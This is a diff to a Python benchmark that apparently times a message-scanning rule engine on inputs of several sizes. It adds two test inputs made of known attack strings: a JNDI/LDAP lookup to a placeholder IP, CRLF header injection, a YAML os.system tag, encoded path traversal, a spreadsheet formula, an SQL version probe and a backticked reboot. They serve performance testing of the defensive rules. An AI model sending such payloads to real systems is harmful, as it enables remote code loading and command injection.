@@ -41,6 +41,8 @@ PIECES: Final = {
     "percents": b"%", "percent s": b"%s", "control": b"\x01", "dashes": b"--", "equals": b"=a", "hash": b"#",
     "amps": b"& cat ", "ats": b"@", "colons": b":", "selects": b"select a,", "calls": b"char(", "xml": b"<a ",
     "ligatures": "ﷺ".encode(), "squared words": "㌖".encode(), "accents apart": "á".encode(), "tags": "\U000e0041".encode(),
+    "hits in turn": b"${jndi:ldap://192.0.2.1/a} %0d%0aSet-Cookie: x !!python/object:os.system \\x41system('id') <?xml version='1.0'?> ",
+    "hits of sheets": b"0x2e0x2e/0x2e0x2e/etc +SUMME(A1;B2) (SELECT @@version) `reboot` ",
 }  # fmt: skip
 
 #: Header fields read of one message, and how many times more bytes are matched than are decoded.
@@ -137,7 +139,7 @@ PLACES: Final[dict[str, Callable[[bytes], bytes]]] = {
 
 
 #: Sizes of messages: the largest is not always the dearest, since less of it is held against the rules.
-SIZES: Final = (16_000, 32_000, 65_000)
+SIZES: Final = (1_000, 4_000, 16_000, 32_000, 65_000)
 
 #: How often what is above the limit is timed at the most.
 ROUNDS: Final = 8
@@ -212,7 +214,7 @@ def main() -> int:
             again = max(cost_of(message(place, piece, size), 15) for size in SIZES)
             rows[number] = (again if not rounds else min(again, cost), place, name, piece)
         rows.sort(reverse=True, key=lambda row: row[0])
-    print("whole messages, µs of CPU, the worst of three sizes (16 KiB, 32 KiB, 64 KiB)")
+    print("whole messages, µs of CPU, the worst of five sizes (1, 4, 16, 32, 64 KiB)")
     for cost, place, name, piece in rows[: options.top]:
         growth = "".join(f"{cost_of(message(place, piece, size)):10.0f}" for size in SIZES)
         print(f"  {cost:9.0f}  {place:11} {name:16}{growth}")
